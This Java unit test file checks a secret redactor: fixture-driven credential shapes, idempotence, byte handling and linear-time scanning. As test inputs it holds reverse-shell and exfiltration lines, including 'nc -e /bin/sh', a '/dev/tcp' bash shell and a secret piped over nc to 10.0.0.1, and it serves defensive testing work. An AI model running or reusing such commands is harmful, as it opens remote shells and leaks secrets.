package dev.cronsentinel.redact;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.cronsentinel.testing.TestData;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** The credential shapes of {@code fixtures/redact/secret-shapes.jsonl}: each secret gone, the marker visible. */
class SecretRedactorTest {
    private static final ObjectMapper MAPPER = new ObjectMapper();

    static Stream<JsonNode> shapes() throws IOException {
        List<JsonNode> out = new ArrayList<>();
        for (String line : Files.readAllLines(TestData.resource("fixtures/redact/secret-shapes.jsonl"))) {
            if (!line.isBlank()) {
                out.add(MAPPER.readTree(line));
            }
        }
        return out.stream();
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("shapes")
    void everySecretOfTheShapeIsReplacedByAVisibleMarker(JsonNode c) {
        String input = c.get("input").asText();
        String out = SecretRedactor.redact(input);
        for (JsonNode secret : c.get("secrets")) {
            assertThat(out).as(c.get("case").asText()).doesNotContain(secret.asText());
        }
        for (JsonNode expected : c.get("contains")) {
            assertThat(out).as(c.get("case").asText()).contains(expected.asText());
        }
        assertThat(SecretRedactor.redact(out)).as("redacting twice changes nothing").isEqualTo(out);
        byte[] bytes = input.getBytes(StandardCharsets.UTF_8);
        assertThat(new String(SecretRedactor.redact(bytes), StandardCharsets.UTF_8)).as("bytes like text").isEqualTo(out);
    }

    @Test
    void textWithoutSecretsIsReturnedAsIs() {
        String benign = "{\"command\":[\"/bin/sh\",\"-c\",\"nc -e /bin/sh 10.0.0.1 4444\"],\"name\":\"MODE\",\"value\":\"x\"}";
        assertThat(SecretRedactor.redact(benign)).isSameAs(benign);
        byte[] raw = benign.getBytes(StandardCharsets.UTF_8);
        assertThat(SecretRedactor.redact(raw)).isSameAs(raw);
    }

    @Test
    void knownSecretValuesAreReplacedWhereverTheyAppear() {
        String expanded = "echo hunter2-from-env | nc 10.0.0.1 4444";
        assertThat(SecretRedactor.redact(expanded, List.of("hunter2-from-env", "ab")))
                .isEqualTo("echo <redacted:env> | nc 10.0.0.1 4444");
    }

    @Test
    void aKnownSecretCutAtTheEvidenceBoundLeavesNoPrefix() {
        String cut = "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1; echo hunter2-fr...(300 chars)";
        assertThat(SecretRedactor.redact(cut, List.of("hunter2-from-env")))
                .isEqualTo("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1; echo <redacted:env>...(300 chars)");
    }

    @Test
    void invalidUtf8AroundASecretSurvivesByteForByte() {
        byte[] raw = {(byte) 0xff, 'A', 'P', 'I', '_', 'K', 'E', 'Y', '=', 'z', 'z', 'z', 'z', ' ', (byte) 0xc3};
        byte[] out = SecretRedactor.redact(raw);
        assertThat(out[0]).isEqualTo((byte) 0xff);
        assertThat(out[out.length - 1]).isEqualTo((byte) 0xc3);
        assertThat(new String(out, StandardCharsets.ISO_8859_1)).contains("API_KEY=<redacted:secret> ").doesNotContain("zzzz");
    }

    @Test
    void linearOnAdversarialRepetition() {
        // Shapes that make a naive regex or an unbounded look-ahead quadratic: many openings without closings.
        String[] openings = {"://a:b", "-----BEGIN ", "\"name\":\"X_TOKEN\",", "Bearer ", "-u ", "--password ", "\\\"",
            "AKIA", "eyJxxxxxxxxxxx.", "Authorization: ", "DB_PASSWORD=$", "\"password\":"};
        for (String o : openings) {
            // 2 MB: linear scans take well under half a second; one quadratic look-ahead took over 6 s.
            String hostile = o.repeat(2_000_000 / o.length());
            long start = System.nanoTime();
            SecretRedactor.redact(hostile);
            assertThat((System.nanoTime() - start) / 1_000_000).as(o).isLessThan(2_500);
        }
    }
}
